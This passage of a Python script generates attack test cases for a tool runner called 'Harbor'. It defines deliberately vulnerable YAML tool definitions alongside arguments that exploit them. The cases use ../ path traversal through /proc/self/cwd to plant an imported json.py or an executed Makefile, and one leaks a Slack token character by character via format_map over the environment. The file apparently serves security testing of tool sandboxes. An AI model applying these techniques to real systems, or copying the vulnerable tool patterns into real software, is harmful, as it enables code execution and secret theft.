    "a redirection into \"$HARBOR_RUN_DIR/$ARG_name\" counts as a run-directory write, but the caller's name climbs out with ../ (the run directory exists) and /proc/self/cwd is the working folder: json.py lands there and the word-count step's python imports it.",
    {"name": UP + "json.py", "text": PY},
    """
    name: scratch_note
    description: Save a note under a name in the run's scratch space and report its word count as JSON.
    args:
      name: {type: string, pattern: "[A-Za-z0-9._/-]{1,200}", default: note.txt}
      text: {type: string, multiline: true}
    required: [text]
    steps:
      - name: save
        run: printf '%s\\n' "$ARG_text" > "$HARBOR_RUN_DIR/$ARG_name"
      - name: count
        run: python3 -c 'import json, sys; print(json.dumps({"words": len(open(sys.argv[1]).read().split())}))' "$HARBOR_RUN_DIR/$ARG_name"
    """,
)
add(
    "048-upload-keep-name",
    "scratch-path-traversal",
    'cp of an attachment to "$HARBOR_RUN_DIR/$ARG_filename" (keeping the uploader\'s file name) writes through ../../proc/self/cwd into the working folder: a Makefile that the literal `make -s check` runs.',
    {"upload": b64("check: ; @echo HARBOR-PWNED-$$((6*7))\n"), "filename": UP + "Makefile"},
    """
    name: stage_upload
    description: Stage an uploaded file under its original name in the run directory, then run the project's checks.
    args:
      upload: {type: string, contentEncoding: base64, contentMediaType: text/plain}
      filename: {type: string, pattern: "[A-Za-z0-9._/-]{1,200}"}
    required: [upload, filename]
    steps:
      - name: stage
        run: cp -- "$ARG_upload" "$HARBOR_RUN_DIR/$ARG_filename"
      - name: check
        run: make -s check || true
    """,
)
add(
    "049-extract-subdir",
    "scratch-path-traversal",
    "tar -xzf into \"$HARBOR_RUN_DIR/$ARG_subdir\": the subdir climbs to /proc/self/cwd, so the archive's json.py is extracted into the working folder; the listing step's python imports it.",
    {"archive": tgz([("json.py", "file", PY + "\n")]), "subdir": UP.rstrip("/")},
    """
    name: extract_upload
    description: Extract an uploaded .tar.gz into a subfolder of the run directory and list it as JSON.
    args:
      archive: {type: string, contentEncoding: base64, contentMediaType: application/gzip}
      subdir: {type: string, pattern: "[A-Za-z0-9._/-]{1,200}", default: upload}
    required: [archive]
    steps:
      - name: extract
        run: |
          mkdir -p -- "$HARBOR_RUN_DIR/$ARG_subdir"
          tar -xzf "$ARG_archive" -C "$HARBOR_RUN_DIR/$ARG_subdir"
      - name: list
        run: python3 -c 'import json, os, sys; print(json.dumps(sorted(os.listdir(sys.argv[1]))))' "$HARBOR_RUN_DIR/$ARG_subdir"
    """,
)
add(
    "050-tmp-snippet-py",
    "scratch-path-traversal",
    'a python snippet saved as "$tmp/$ARG_name.py" in a mktemp folder (a temporary folder, not the working folder, for the checker) climbs to /proc/self/cwd/json.py; py_compile of the snippet then imports json from the working folder.',
    {"name": UP + "json", "code": PY},
    """
    name: syntax_check_snippet
    description: Check that a Python snippet compiles (saved under a name in a temporary folder).
    args:
      name: {type: string, pattern: "[A-Za-z0-9_./-]{1,100}", default: snippet}
      code: {type: string, multiline: true}
    required: [code]
    steps:
      - name: compile
        run: |
          tmp=$(mktemp -d)
          printf '%s\\n' "$ARG_code" > "$tmp/$ARG_name.py"
          python3 -m py_compile "$tmp/$ARG_name.py" && echo "compiles"
          python3 -c 'import json; print(json.dumps({"ok": True}))'
    """,
)

add(
    "051-argv-context-template",
    "secret-leak",
    "an argv: step with no caller value in its argv gets the secrets in its environment; its python reads the caller's template from $HARBOR_CONTEXT (context.json) and format_maps it over os.environ, so {SLACK_TOKEN[0]} {SLACK_TOKEN[1]} ... prints the token a character at a time.",
    {"template": " ".join("{SLACK_TOKEN[%d]}" % i for i in range(13))},
    """
    name: slack_preview
    description: Preview a Slack message rendered from a template ({HARBOR_TOOL}, {USER} and other environment values can be used).
    secrets:
      SLACK_TOKEN: {env: CI_SLACK_TOKEN}
    args:
      template: {type: string}
    required: [template]
    steps:
      - name: render
        argv:
          - python3
          - -c
          - |
            import json, os
            args = json.load(open(os.environ["HARBOR_CONTEXT"]))["arguments"]
            print(json.dumps({"channel": "#deploys", "text": args["template"].format_map(os.environ)}))
    """,
)

os.makedirs(OUT, exist_ok=True)
for name, cls, why, args, y in A:
    open(os.path.join(OUT, name + ".yaml"), "w").write(y)
    json.dump(
        {"args": args, "class": cls, "why": why},
        open(os.path.join(OUT, name + ".json"), "w"),
        indent=1,
    )
print(len(A), "attacks written")
